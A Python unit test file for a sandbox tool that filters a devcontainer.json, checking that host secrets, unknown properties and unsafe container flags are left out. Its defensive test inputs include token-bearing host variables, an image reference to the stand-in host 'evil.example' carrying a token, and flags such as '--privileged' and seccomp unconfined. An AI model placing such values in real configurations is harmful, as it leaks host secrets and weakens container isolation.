"""What of a hand-written devcontainer.json is taken over as it is."""

from __future__ import annotations

from sandboxd.plan.carry import Carried, carry
from tests.unit.plan.examples import document


def carry_text(text: str, folder: str = ".devcontainer") -> Carried:
    return carry(document(text, folder), folder)


def left_out(carried: Carried) -> dict[str, str]:
    return {entry.item: entry.why for entry in carried.left_out}


def test_harmless_properties_keep_their_values_and_order() -> None:
    carried = carry_text(
        """{
        // comment
        "postCreateCommand": ["make", "deps"],
        "name": "weather",
        "customizations": {"vscode": {"extensions": ["a.b"]}},
        "forwardPorts": [8080],
        "features": {"ghcr.io/x/y:1": {}}
        }"""
    )
    assert carried.members == (
        ("postCreateCommand", ["make", "deps"]),
        ("name", "weather"),
        ("customizations", {"vscode": {"extensions": ["a.b"]}}),
        ("forwardPorts", [8080]),
        ("features", {"ghcr.io/x/y:1": {}}),
    )
    assert carried.left_out == ()


def test_the_old_spelling_of_a_build_takes_no_variable_either() -> None:
    """An editor would fill in `..`, and build from folders of the host."""
    carried = carry_text('{"dockerFile": "Dockerfile", "context": "./${localEnv:NOT_SET:..}/x"}')
    assert dict(carried.members)["build"] == {"dockerfile": "../Dockerfile"}
    assert "variables of the host" in left_out(carried)["build.context"]


def test_unknown_properties_are_left_out() -> None:
    carried = carry_text(
        '{"image": "i", "somethingNew": 1, "workspaceFolder": "/w", "settings": {}}'
    )
    assert carried.members == ()
    assert set(left_out(carried)) == {"somethingNew", "workspaceFolder", "settings"}


def test_the_hosts_variables_stay_outside() -> None:
    carried = carry_text(
        """{"remoteEnv": {"A": "1", "T": "${localEnv:TOKEN}", "E": "${env:X}"},
        "postStartCommand": "echo ${localEnv:SECRET}",
        "build": {"dockerfile": "D", "args": {"T": "${localEnv:TOKEN}"}}}"""
    )
    assert dict(carried.members)["remoteEnv"] == {"A": "1"}
    assert "postStartCommand" not in dict(carried.members)
    assert dict(carried.members)["build"] == {"dockerfile": "../D", "context": ".."}
    assert set(left_out(carried)) == {
        "remoteEnv.T",
        "remoteEnv.E",
        "postStartCommand",
        "build.args",
    }


def test_paths_hold_from_the_generated_files_folder() -> None:
    text = '{"build": {"dockerfile": "Dockerfile", "context": "..", "options": ["--network=host"]}}'
    carried = carry_text(text)
    assert dict(carried.members)["build"] == {"dockerfile": "../Dockerfile", "context": "../.."}
    assert list(left_out(carried)) == ["build.options"]
    root = carry_text('{"dockerFile": "Dockerfile", "features": {"./local": {}}}', folder="")
    assert dict(root.members) == {
        "features": {"../../local": {}},
        "build": {"dockerfile": "../../Dockerfile", "context": "../.."},
    }


def test_run_args_only_known_harmless_flags() -> None:
    carried = carry_text(
        """{"runArgs": ["--name=w", "--hostname", "box", "--gpus=all", "--shm-size=1g",
        "--label", "dev.sandboxd.project=/x", "--security-opt=seccomp=unconfined",
        "--hostname=${localEnv:HOST}", "other:image", "--privileged"]}"""
    )
    assert carried.run_args == ("--name=w", "--hostname=box", "--shm-size=1g")
    assert set(left_out(carried)) == {
        "runArgs: --hostname=${localEnv:HOST}",
        "runArgs: --label=dev.sandboxd.project=/x",
        "runArgs: other:image",
    }


def test_a_gpu_is_no_requirement_that_is_carried() -> None:
    carried = carry_text('{"hostRequirements": {"cpus": 2, "gpu": true}}')
    assert carried.members == (("hostRequirements", {"cpus": 2}),)
    assert carry_text('{"hostRequirements": {"gpu": true}}').members == ()


def test_duplicates_count_once_with_the_last_value() -> None:
    assert carry_text('{"name": "a", "name": "b"}').members == (("name", "b"),)


def test_files_that_hold_no_object_give_nothing() -> None:
    for text in ("", "[]", "3", "{"):
        assert carry_text(text).members == ()


def test_no_part_of_a_build_copies_the_hosts_variables() -> None:
    carried = carry_text(
        """{"build": {"dockerfile": "D", "target": "${localEnv:A}",
        "cacheFrom": ["evil.example/x:${localEnv:TOKEN}"]}}"""
    )
    assert dict(carried.members)["build"] == {"dockerfile": "../D", "context": ".."}
    assert set(left_out(carried)) == {"build.target", "build.cacheFrom"}


def test_labels_by_which_tools_find_their_containers_are_left_out() -> None:
    carried = carry_text(
        """{"runArgs": ["--label=devcontainer.local_folder=/home/dev/other", "-l", "team=weather",
        "--label", "com.docker.compose.project=other", "--label=dev.sandboxd.project=/x"]}"""
    )
    assert carried.run_args == ("--label=team=weather",)
    assert len(carried.left_out) == 3
